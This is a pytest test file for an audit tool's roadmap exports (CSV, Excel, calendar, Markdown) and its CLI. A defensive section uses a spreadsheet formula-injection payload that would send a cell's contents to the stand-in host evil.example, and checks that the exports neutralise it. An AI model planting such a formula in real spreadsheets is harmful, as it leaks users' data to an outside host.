"""Roadmap exports, each read back by its real consumer, and the ``auditkit roadmap`` command."""

from __future__ import annotations

import csv
import dataclasses
import json
import os
import re
import shutil
import subprocess
import unicodedata
from pathlib import Path

import icalendar
import openpyxl
import pandas as pd
import pytest

from auditkit import cli, export, store
from auditkit.errors import AuditkitError
from auditkit.model import Audit, Language
from auditkit.resources import example_audits
from auditkit.roadmap import Roadmap, add_action, build_roadmap

BAKERY = next(path for path in example_audits() if path.name.startswith("boulangerie-martin."))


@pytest.fixture(scope="module")
def audit() -> Audit:
    """The bakery, with a hand-added action whose title holds Markdown and HTML characters."""
    audit = store.load(BAKERY)
    add_action(audit, 3, title_en="Film the <b>*oven*</b> [live]", title_fr="Filmer le four « en direct »")
    return audit


@pytest.fixture(scope="module")
def roadmap(audit: Audit) -> Roadmap:
    return build_roadmap(audit)


def all_actions(roadmap: Roadmap) -> list:
    return [*roadmap.actions, *roadmap.backlog]


def test_csv_has_one_row_per_action_with_stable_columns(roadmap: Roadmap, tmp_path: Path) -> None:
    path = export.write_roadmap(roadmap, tmp_path / "plan.csv", "fr")
    table = pd.read_csv(path, keep_default_na=False)
    assert tuple(table.columns) == export.CSV_COLUMNS
    assert list(table["id"]) == [action.id for action in all_actions(roadmap)]
    assert list(table["title"]) == [action.title("fr") for action in all_actions(roadmap)]
    scheduled = table[table["status"] == "scheduled"]
    assert [int(stage) for stage in scheduled["stage"]] == [action.stage for action in roadmap.actions]
    assert (table[table["status"] == "backlog"]["stage"] == "").all()
    assert table["effort_hours"].astype(float).sum() == pytest.approx(
        sum(action.effort_hours for action in all_actions(roadmap))
    )
    assert set(table["currency"]) == {"EUR"}
    manual = table[table["origin"] == "manual"].iloc[0]
    assert manual["title"] == "Filmer le four « en direct »"
    closing = table[table["id"] == "rec-close"].iloc[0]
    assert closing["findings"].split(";") == ["CH-DORMANT", "CH-NO-OWNER"]
    assert "\n" in closing["description"]


def test_workbook_has_a_summary_and_one_readable_sheet_per_stage(roadmap: Roadmap, tmp_path: Path) -> None:
    path = export.write_roadmap(roadmap, tmp_path / "plan.xlsx", "en")
    workbook = openpyxl.load_workbook(path)
    expected = ["Summary", "Month 1", "Month 3", "Month 6", "Month 9", "Month 12"]
    assert workbook.sheetnames == expected + (["Backlog"] if roadmap.backlog else [])
    summary = workbook["Summary"]
    assert [summary.cell(row=r, column=1).value for r in range(2, 7)] == [1, 3, 6, 9, 12]
    assert [summary.cell(row=r, column=4).value for r in range(2, 7)] == [
        len(s.actions) for s in roadmap.stages
    ]
    assert summary.cell(row=2, column=8).value == pytest.approx(roadmap.stages[0].projected_overall, abs=0.05)
    notes = [row[0] for row in summary.iter_rows(min_row=8, values_only=True)]
    assert roadmap.notes[0]("en") in notes
    for stage in roadmap.stages:
        sheet = workbook[f"Month {stage.month}"]
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.column_dimensions["B"].width >= 30
        assert sheet.column_dimensions["C"].width >= 50
        rows = list(sheet.iter_rows(min_row=2, values_only=True))
        assert [row[1] for row in rows] == [action.title("en") for action in stage.actions]
        assert [row[4] for row in rows] == [pytest.approx(action.effort_hours) for action in stage.actions]
        for row in sheet.iter_rows(min_row=1, max_row=sheet.max_row):
            assert all(cell.alignment.wrap_text for cell in row)
    if roadmap.backlog:
        backlog = workbook["Backlog"]
        assert [row[1] for row in backlog.iter_rows(min_row=2, values_only=True)] == [
            action.title("en") for action in roadmap.backlog
        ]


def test_workbook_summary_is_readable_and_shows_the_backlog(roadmap: Roadmap, tmp_path: Path) -> None:
    path = export.write_roadmap(roadmap, tmp_path / "plan.xlsx", "fr")
    summary = openpyxl.load_workbook(path)["Synthèse"]
    assert summary.freeze_panes == "A2"
    assert [cell.value for cell in summary[1]][:4] == ["Mois", "Début", "Échéance", "Actions"]
    assert all(cell.font.bold for cell in summary[1])
    for letter, (_, width) in zip("ABCDEFGHIJ", export._SUMMARY_COLUMNS, strict=True):
        assert summary.column_dimensions[letter].width == width
    assert summary.column_dimensions["J"].width >= 40
    table_rows = len(roadmap.stages) + 2
    for row in summary.iter_rows(min_row=1, max_row=table_rows):
        assert all(cell.alignment.wrap_text for cell in row)
    for row in range(table_rows + 1, summary.max_row + 1):
        assert summary.cell(row=row, column=1).alignment.wrap_text
    assert roadmap.backlog
    backlog_row = [cell.value for cell in summary[len(roadmap.stages) + 2]]
    assert backlog_row[0] == "En attente (au-delà du mois 12)"
    assert backlog_row[3] == len(roadmap.backlog)
    assert backlog_row[4] == pytest.approx(roadmap.backlog_hours)
    texts = [row[0] for row in summary.iter_rows(values_only=True) if isinstance(row[0], str)]
    assert any(text.startswith("Plan complet\u00a0:") for text in texts)
    assert roadmap.shortfall is not None and roadmap.shortfall("fr") in texts


def test_markdown_summary_weighs_the_plan_against_the_year(roadmap: Roadmap) -> None:
    text = export.render_markdown(roadmap, Language.EN)
    table = text.split("\n\n")[3].splitlines()
    assert len(table) == 2 + len(roadmap.stages) + 1
    assert table[-1].startswith(f"| Backlog (beyond month 12) | | {len(roadmap.backlog)} |")
    assert "Whole plan: " in text and f"for {export._number(roadmap.capacity_hours, Language.EN)} h" in text
    assert f"**{export._inline(roadmap.shortfall('en'))}**" in text
    roomy = store.load(BAKERY)
    roomy.organisation.hours_per_week = 400.0
    fits = build_roadmap(roomy)
    assert "Backlog" not in export.render_markdown(fits, Language.EN)


def test_calendar_has_stage_milestones_and_dated_actions(roadmap: Roadmap, tmp_path: Path) -> None:
    path = export.write_roadmap(roadmap, tmp_path / "plan.ics")
    calendar = icalendar.Calendar.from_ical(path.read_bytes())
    events = list(calendar.walk("VEVENT"))
    dated = [action for action in roadmap.actions if action.start and action.due]
    assert len(events) == len(roadmap.stages) + len(dated)
    by_uid = {str(event["UID"]): event for event in events}
    assert len(by_uid) == len(events)
    for stage in roadmap.stages:
        milestone = next(e for uid, e in by_uid.items() if uid.endswith(f"-stage-{stage.month}@auditkit"))
        assert milestone.decoded("DTSTART") == stage.due
        assert milestone["SUMMARY"].params["LANGUAGE"] == "fr"
        assert str(milestone["SUMMARY"]).startswith(f"Jalon du mois {stage.month}")
    for action in dated:
        event = next(e for uid, e in by_uid.items() if uid.endswith(f"-{action.id}@auditkit"))
        assert str(event["SUMMARY"]) == action.title("fr")
        assert event.decoded("DTSTART") == action.start
        assert event.decoded("DTEND") > action.due
    again = icalendar.Calendar.from_ical(export.render_ics(build_roadmap(store.load(BAKERY)), Language.FR))
    assert {str(e["UID"]) for e in again.walk("VEVENT")} <= set(by_uid)


def test_markdown_contains_every_action_title(roadmap: Roadmap, tmp_path: Path) -> None:
    for lang in Language:
        text = export.write_roadmap(roadmap, tmp_path / f"plan.{lang.value}.md", lang).read_text("utf-8")
        for action in (*all_actions(roadmap), *roadmap.dropped):
            title = action.title(lang)
            assert title in text or export._inline(title) in text, title
        for stage in roadmap.stages:
            assert f"{'Month' if lang is Language.EN else 'Mois'} {stage.month} (" in text
    english = (tmp_path / "plan.en.md").read_text("utf-8")
    assert r"Film the \<b\>\*oven\*\</b\> \[live\]" in english
    assert "<b>" not in english


def test_exports_are_deterministic(audit: Audit) -> None:
    first, second = build_roadmap(audit), build_roadmap(audit.model_copy(deep=True))
    for extension in (".csv", ".ics", ".md"):
        assert export.FORMATS[extension](first, Language.FR) == export.FORMATS[extension](second, Language.FR)


# -- what a user types is shown as typed, never run -----------------------------------------------------

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
TYPED_TITLES = (PAYLOAD, "+1", "-1+2", "@SUM(A1)", "\uff1d1+1")
"""Titles of hand-added actions that a spreadsheet would read as formulas (the last one full-width)."""
TYPED_DESCRIPTION = "\tTab first\r\nthen a second line"
"""A description a spreadsheet would read as a formula (titles are one line: they hold no tab)."""
SHOWN_DESCRIPTION = "\tTab first\nthen a second line"
TYPED_CLIENT = "Boulangerie\x0bMartin\x07"
"""A client name holding Word's Shift+Enter (vertical tab) and a bell character."""
SHOWN_CLIENT = "Boulangerie\nMartin"


@pytest.fixture(scope="module")
def hostile() -> Roadmap:
    """The bakery with actions added by hand under formula-like texts, and a client name holding control
    characters (set on the built roadmap, as the model refuses it: the exports must hold whatever text
    reaches them)."""
    audit = store.load(BAKERY)
    for title in TYPED_TITLES:
        add_action(audit, 1, title_en=title, title_fr=title, description_en=TYPED_DESCRIPTION)
    return dataclasses.replace(build_roadmap(audit), client=TYPED_CLIENT)


def control_characters(text: str) -> set[str]:
    """The control characters of ``text`` other than tab and line breaks."""
    return {char for char in text if unicodedata.category(char) == "Cc" and char not in "\t\n\r"}


def test_workbook_has_no_formula_and_shows_every_text_as_typed(hostile: Roadmap, tmp_path: Path) -> None:
    path = export.write_roadmap(hostile, tmp_path / "plan.xlsx", "en")
    workbook = openpyxl.load_workbook(path)
    texts: dict[str, openpyxl.cell.cell.Cell] = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert not control_characters(cell.value), (sheet.title, cell.coordinate)
                    texts.setdefault(cell.value, cell)
                elif cell.value is not None:
                    assert cell.data_type in {"n", "d"}, (sheet.title, cell.coordinate, cell.value)
    for typed in (*TYPED_TITLES, SHOWN_DESCRIPTION):
        assert typed in texts, typed
        assert texts[typed].quotePrefix, typed
    assert "Client: " + SHOWN_CLIENT in texts
    assert not texts["Client: " + SHOWN_CLIENT].quotePrefix
    assert workbook.properties.title == "Roadmap: " + SHOWN_CLIENT
    effort = workbook["Month 1"].cell(row=2, column=5)
    assert effort.data_type == "n" and isinstance(effort.value, float | int)


def test_csv_quotes_every_cell_a_spreadsheet_would_read_as_a_formula(
    hostile: Roadmap, tmp_path: Path
) -> None:
    path = export.write_roadmap(hostile, tmp_path / "plan.csv", "en")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    titles = {row["title"] for row in rows}
    for title in TYPED_TITLES:
        assert "'" + title in titles, title
    assert "'" + SHOWN_DESCRIPTION in {row["description"] for row in rows}
    for row in rows:
        for column, value in row.items():
            assert value[:1] not in export.FORMULA_STARTS, (row["id"], column, value)
            assert not control_characters(value), (row["id"], column)
    assert all(re.fullmatch(r"\d+(\.\d+)?", row["effort_hours"]) for row in rows)


def test_calendar_and_markdown_hold_no_control_character(hostile: Roadmap, tmp_path: Path) -> None:
    ics = export.write_roadmap(hostile, tmp_path / "plan.ics", "en").read_bytes().decode("utf-8")
    assert not control_characters(ics)
    calendar = icalendar.Calendar.from_ical(ics)
    assert str(calendar["X-WR-CALNAME"]) == "Roadmap: Boulangerie Martin"
    summaries = {str(event["SUMMARY"]) for event in calendar.walk("VEVENT")}
    scheduled = {action.title("en") for action in hostile.actions}
    assert {export.one_line(title) for title in scheduled & set(TYPED_TITLES)} <= summaries
    markdown = export.write_roadmap(hostile, tmp_path / "plan.md", "en").read_text("utf-8")
    assert not control_characters(markdown)
    assert markdown.startswith("# Roadmap: Boulangerie Martin\n")


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("plain", "plain"),
        ("tab\tinside", "tab\tinside"),
        ("two\r\nlines\rthree", "two\nlines\nthree"),
        ("Word\x0bline\x0cbreak", "Word\nline\nbreak"),
        ("nul\x00 bell\x07 esc\x1b del\x7f c1\x9b", "nul bell esc del c1"),
    ],
)
def test_clean_text_keeps_tabs_and_line_breaks_and_drops_other_controls(typed: str, kept: str) -> None:
    assert export.clean_text(typed) == kept


def test_one_line_turns_line_breaks_into_spaces_and_keeps_no_break_spaces() -> None:
    assert export.one_line("Boulangerie \x0b Martin\r\n\n Paris\x07") == "Boulangerie Martin Paris"
    assert export.one_line("Objectifs\u00a0: plus\u202f!") == "Objectifs\u00a0: plus\u202f!"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab first", "'\tTab first"),
        ("\r=1+1", "\n=1+1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("a = b", "a = b"),
        ("", ""),
        (-1.5, -1.5),
        (0, 0),
        (True, True),
    ],
)
def test_csv_cell_quotes_formulas_and_leaves_numbers_alone(value: object, written: object) -> None:
    assert export.csv_cell(value) == written


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_the_payload_as_text(hostile: Roadmap, tmp_path: Path) -> None:
    """LibreOffice, headless, converts every sheet to CSV: the payload comes out as typed, not evaluated."""
    workbook = export.write_roadmap(hostile, tmp_path / "plan.xlsx", "en")
    every_sheet_as_utf8 = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            every_sheet_as_utf8,
            "--outdir",
            str(tmp_path / "out"),
            str(workbook),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    cells = set()
    for sheet in (tmp_path / "out").glob("*.csv"):
        with sheet.open(encoding="utf-8-sig", newline="") as file:
            cells |= {cell for row in csv.reader(file) for cell in row}
    assert PAYLOAD in cells
    assert "Click" not in cells


def test_unknown_extension_is_refused_and_nothing_is_written(roadmap: Roadmap, tmp_path: Path) -> None:
    with pytest.raises(AuditkitError, match=r"\.pdf.*valid extensions: \.csv, \.xlsx, \.ics, \.md"):
        export.write_roadmap(roadmap, tmp_path / "plan.pdf")
    with pytest.raises(AuditkitError, match="without extension"):
        export.write_roadmap(roadmap, tmp_path / "plan")
    assert list(tmp_path.iterdir()) == []


def test_extension_case_does_not_matter(roadmap: Roadmap, tmp_path: Path) -> None:
    path = export.write_roadmap(roadmap, tmp_path / "PLAN.CSV")
    assert pd.read_csv(path, keep_default_na=False)["id"].tolist()[0] == roadmap.actions[0].id


def test_a_failed_export_leaves_the_previous_file_whole(
    roadmap: Roadmap, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "plan.md"
    export.write_roadmap(roadmap, target)
    before = target.read_bytes()

    def half_then_crash(roadmap: Roadmap, lang: Language) -> bytes:
        raise OSError("disk full")

    monkeypatch.setitem(export.FORMATS, ".md", half_then_crash)
    with pytest.raises(OSError):
        export.write_roadmap(roadmap, target)
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["plan.md"]


def test_exports_get_ordinary_file_permissions(roadmap: Roadmap, tmp_path: Path) -> None:
    umask = os.umask(0o022)
    try:
        fresh = export.write_roadmap(roadmap, tmp_path / "plan.md")
        assert fresh.stat().st_mode & 0o777 == 0o644
        fresh.chmod(0o600)
        export.write_roadmap(roadmap, fresh)
        assert fresh.stat().st_mode & 0o777 == 0o600
    finally:
        os.umask(umask)


def test_export_into_a_missing_folder_says_where(roadmap: Roadmap, tmp_path: Path) -> None:
    with pytest.raises(AuditkitError, match="cannot write here"):
        export.write_roadmap(roadmap, tmp_path / "missing" / "plan.csv")


# -- command line ------------------------------------------------------------------------------------


def test_cli_prints_a_readable_plan(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["roadmap", str(BAKERY), "--lang", "en"]) == 0
    out = capsys.readouterr().out
    roadmap = build_roadmap(store.load(BAKERY))
    assert out.startswith("# Roadmap: Boulangerie Martin")
    for action in roadmap.actions:
        assert action.title("en") in out


def test_cli_json_has_five_stages_in_month_order(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["roadmap", str(BAKERY), "--json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert [stage["month"] for stage in document["stages"]] == [1, 3, 6, 9, 12]
    for stage in document["stages"]:
        assert {"month", "actions", "hours", "projected_overall"} <= set(stage)
        assert all(isinstance(action["title"], str) for action in stage["actions"])
    assert re.search("[éèà]", json.dumps(document, ensure_ascii=False))


def test_cli_writes_the_format_its_extension_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "plan.xlsx"
    assert cli.main(["roadmap", str(BAKERY), "-o", str(target), "--lang", "en"]) == 0
    assert capsys.readouterr().out.strip() == str(target)
    assert openpyxl.load_workbook(target).sheetnames[0] == "Summary"


def test_cli_refuses_an_unknown_extension_with_exit_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main(["roadmap", str(BAKERY), "-o", str(tmp_path / "plan.docx")]) == 1
    err = capsys.readouterr().err
    assert "plan.docx" in err and ".csv, .xlsx, .ics, .md" in err and "Traceback" not in err
    assert list(tmp_path.iterdir()) == []


def test_cli_on_a_missing_audit_exits_1(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["roadmap", str(tmp_path / "nope.audit.json")]) == 1
    assert "no such file" in capsys.readouterr().err


def test_demo_writes_the_roadmap_in_every_format(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli._demo_roadmap in cli.DEMO_STEPS
    monkeypatch.setattr(cli, "DEMO_STEPS", [cli._demo_roadmap])
    assert cli.main(["demo", "-o", str(tmp_path)]) == 0
    printed = capsys.readouterr().out.split()
    expected = [str(tmp_path / f"roadmap{extension}") for extension in export.FORMATS]
    assert printed == expected
    assert pd.read_csv(tmp_path / "roadmap.csv", keep_default_na=False)["id"].tolist()
    assert openpyxl.load_workbook(tmp_path / "roadmap.xlsx").sheetnames[0] == "Synthèse"
    assert icalendar.Calendar.from_ical((tmp_path / "roadmap.ics").read_bytes()).walk("VEVENT")
    assert (tmp_path / "roadmap.md").read_text("utf-8").startswith("# Feuille de route")
